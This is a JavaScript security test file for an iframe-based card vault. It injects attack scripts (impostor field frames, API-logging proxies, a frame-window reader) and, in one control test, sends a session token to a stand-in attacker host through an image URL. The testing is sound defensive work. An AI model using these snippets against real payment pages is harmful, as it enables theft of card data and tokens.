// @ts-check
// Rows 45 and 50 to 52: messages that frames accept from their surroundings, and facts that they
// reveal to them.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { until } from '../browser/support/wait.mjs';
import { digits } from './support/digits.mjs';
import { allowScript } from './support/middleman.mjs';
import { row } from './support/row.mjs';
import { useAttackScene } from './support/scene.mjs';
import { CARD, USES } from './support/victim.mjs';

describe('frame exposure', () => {
  const scene = useAttackScene();

  row('45 siblings that pretend to be fields', ({ attack, control }) => {
    /**
     * Inserts documents that announce themselves to every sibling, at the position and under the
     * name of a field.
     */
    const FAKE = `
      const [kind, name, evil] = arguments;
      const script = "<script>onmessage = () => {}; const say = () => { for (let i = 0; i < parent.length; i += 1) parent[i].postMessage('sordino-field', '*'); }; say(); setInterval(say, 50);<" + "/script><body>";
      const frame = document.createElement("iframe");
      frame.name = name;
      if (kind === "srcdoc") frame.srcdoc = script;
      if (kind === "blob") frame.src = URL.createObjectURL(new Blob([script], { type: "text/html" }));
      if (kind === "data") frame.src = "data:text/html," + encodeURIComponent(script);
      if (kind === "opaque") { frame.setAttribute("sandbox", "allow-scripts"); frame.srcdoc = script; }
      if (kind === "evil") frame.src = evil;
      document.body.append(frame);
      if (kind === "blank") { frame.contentDocument.write(script); frame.contentDocument.close(); }
      return frame;`;

    attack("the vault builds into none of them, even under a field's own name", async () => {
      const victim = await scene.victim('card');
      const name = await victim.run("return victim.frame('number').name");
      const frames = [];
      for (const kind of ['srcdoc', 'blank', 'blob', 'data', 'opaque', 'evil']) {
        frames.push(await victim.run(FAKE, kind, name, scene.evil('named.html')));
      }
      const outcome = await victim.call();
      assert.ok('ok' in outcome);
      await scene.settle();
      for (const frame of frames) {
        const text = await scene.inside(frame, 'return document.documentElement.outerHTML');
        assert.doesNotMatch(text, /data-kind|class="field/);
      }
      assert.equal(
        digits((await victim.reveal('number')).seen),
        CARD.number,
        'the real field still works',
      );
    });
    attack(
      "the vault builds into no other document of the frame's origin, and into no field that is not a sibling",
      async () => {
        const victim = await scene.victim('card');
        const name = await victim.run("return victim.frame('number').name");
        await victim.run(
          `const [folder, name] = arguments;
        const make = (src, parent) => {
          const frame = parent.ownerDocument.createElement("iframe");
          Object.assign(frame, { name, src });
          parent.append(frame);
          return frame;
        };
        window.other = make(folder + "vault.html", document.body);
        const between = document.createElement("iframe");
        document.body.append(between);
        window.nested = make(folder + "field.html", between.contentDocument.body);`,
          scene.addresses.frame,
          name,
        );
        await scene.settle();
        // The template of a field is in the head of a vault's document.
        assert.doesNotMatch(
          await scene.inside(await victim.run('return other'), 'return document.body.outerHTML'),
          /data-kind/,
        );
        assert.ok('ok' in (await victim.call()));
        assert.equal(digits((await victim.reveal('number')).seen), CARD.number);
      },
    );
    control('the vault answers a real field under that name', async () => {
      const victim = await scene.victim('card');
      const before = (await victim.told()).filter(
        ({ source, type }) => source === 'number' && type === 'ready',
      ).length;
      await victim.run("const f = victim.frame('number'); f.src = f.src;");
      await until('it is built again', async () => {
        return (
          (await victim.told()).filter(
            ({ source, type }) => source === 'number' && type === 'ready',
          ).length > before
        );
      });
    });
  });

  row('50 channels between documents of one origin', ({ attack, control }) => {
    /**
     * Notes every use of a channel that a second document of the frame's origin, in another page,
     * could receive.
     */
    const NOTE = `
      window.used = [];
      const note = (owner, name) => {
        const original = owner?.[name];
        if (typeof original !== "function") return;
        owner[name] = new Proxy(original, {
          apply: (target, self, args) => { used.push(name); return Reflect.apply(target, self, args); },
          construct: (target, args) => { used.push(name); return Reflect.construct(target, args); },
        });
      };
      for (const name of ["BroadcastChannel", "SharedWorker", "Worker", "WebSocket", "EventSource", "RTCPeerConnection", "WebTransport", "open"]) note(window, name);
      note(Storage.prototype, "setItem");
      note(IDBFactory.prototype, "open");
      note(window.CacheStorage?.prototype, "open");
      note(window.LockManager?.prototype, "request");
      note(window.ServiceWorkerContainer?.prototype, "register");
      note(Navigator.prototype, "sendBeacon");
      note(History.prototype, "pushState");
      note(History.prototype, "replaceState");
      for (const [owner, name] of [[Document.prototype, "cookie"], [window, "name"]]) {
        const own = Object.getOwnPropertyDescriptor(owner, name);
        if (own?.set) Object.defineProperty(owner, name, { ...own, set(value) { used.push(name); own.set.call(this, value); } });
      }`;
    const watch = () =>
      scene.middleman.onFrame((passing) => {
        if (passing.path.endsWith('.html')) allowScript(passing, NOTE);
      });

    attack('the frame uses none of these channels', async () => {
      watch();
      const victim = await scene.viewedCard({ frameUrl: scene.middleman.frameUrl });
      await victim.reveal('number');
      await victim.run('victim.session.hide()');
      await victim.heard('number', 'hide');
      assert.deepEqual(await victim.insideVault('return used'), []);
      for (const { name } of USES.card.fields)
        assert.deepEqual(await victim.inside(name, 'return used'), []);
    });
    control('each use would be noted', async () => {
      watch();
      const victim = await scene.victim('card', { frameUrl: scene.middleman.frameUrl });
      await victim.insideVault(
        "new BroadcastChannel('x').close(); localStorage.setItem('x', '1'); localStorage.clear(); document.cookie = 'x=1; max-age=0';",
      );
      assert.deepEqual(await victim.insideVault('return used'), [
        'BroadcastChannel',
        'setItem',
        'cookie',
      ]);
    });
  });

  row("51 properties of a frame's window", ({ attack, control }) => {
    /** Reads everything that the page can read of the windows of all frames, two levels deep. */
    const READ = `
      const texts = [];
      const read = (object, depth) => {
        let keys = [];
        try { keys = Reflect.ownKeys(object); } catch { return; }
        for (const key of keys) {
          let value;
          try { value = object[key]; } catch { continue; }
          if (typeof value === "string" || typeof value === "number") texts.push(String(key) + "=" + value);
          else if (value && typeof value === "object" && value !== window && depth > 0) read(value, depth - 1);
        }
      };
      for (const frame of document.querySelectorAll("iframe")) {
        read(frame.contentWindow, 2);
        for (const member of ["name", "document", "origin", "length", "opener", "frameElement", "status", "history", "localStorage"]) {
          try { texts.push(member + ":" + frame.contentWindow[member]); } catch {}
        }
        try { texts.push(frame.contentWindow.location.href); } catch {}
        try { texts.push(frame.getSVGDocument()?.documentElement.outerHTML); } catch {}
        try { texts.push(frame.contentDocument.documentElement.outerHTML); } catch {}
      }
      return texts.join("\\n");`;

    attack("nothing of a card can be read, not even its frame's name or address", async () => {
      const victim = await scene.viewedCard();
      const { seen } = await victim.reveal('number');
      const name = await victim.run("return victim.frame('number').name");
      await victim.run('try { document.domain = document.domain; } catch {}');
      const text = /** @type {string} */ (await victim.run(READ));
      for (const secret of [CARD.number, seen, name, CARD.id, 'field.html', 'vault.html']) {
        assert.ok(!text.includes(secret), `${secret} in ${text.slice(0, 500)}`);
      }
    });
    control("all of a document of the page's own origin can be read", async () => {
      await scene.visit('/clipboard.html');
      await scene.embed(new URL(`/clipboard.html#${CARD.id}`, scene.addresses.app).href);
      const text = /** @type {string} */ (await scene.driver.executeScript(READ));
      assert.ok(text.includes(CARD.id) && text.includes('<input'), text.slice(0, 500));
    });
  });

  row("52 violation reports of the page's own policy", ({ attack, control }) => {
    const FORBID = `
      window.reports = [];
      document.addEventListener("securitypolicyviolation", (event) => reports.push([event.blockedURI, event.sample, event.sourceFile].join(" ")));
      document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "Content-Security-Policy", content: "frame-src 'none'; img-src 'none'" }));`;

    attack(
      'the report of a blocked frame has no token and no card, and the session fails',
      async () => {
        const token = await scene.tokenFor('card');
        const victim = await scene.victimPage();
        await victim.run(FORBID);
        const end = await victim.open({ ...USES.card, token, session: { timeout: 1_000 } });
        assert.equal('error' in end && end.error.code, 'frame-unavailable');
        const reports = /** @type {string[]} */ (
          await until('it is reported', async () => {
            const all = await victim.run('return reports');
            return all.length > 0 ? all : undefined;
          })
        );
        for (const secret of [token, CARD.id, CARD.number])
          assert.ok(!reports.join('\n').includes(secret));
      },
    );
    control('a token in an address is in the report', async () => {
      const token = await scene.tokenFor('card');
      await scene.visit('/clipboard.html');
      await scene.driver.executeScript(FORBID);
      // Uses an image because for a frame of another origin, Chromium reports only the origin.
      await scene.driver.executeScript(
        'new Image().src = arguments[0]',
        scene.evil(`card.png?token=${token}`),
      );
      await until('it is reported', async () =>
        String(await scene.driver.executeScript('return reports.join()')).includes(token),
      );
    });
  });
});
